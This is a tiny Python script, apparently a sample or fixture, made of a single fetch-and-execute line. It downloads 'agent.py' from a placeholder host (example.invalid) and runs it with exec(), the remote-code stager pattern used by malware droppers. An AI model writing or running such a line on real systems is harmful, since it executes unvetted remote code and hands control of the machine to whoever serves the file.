import urllib.request

exec(urllib.request.urlopen("http://example.invalid/agent.py").read())
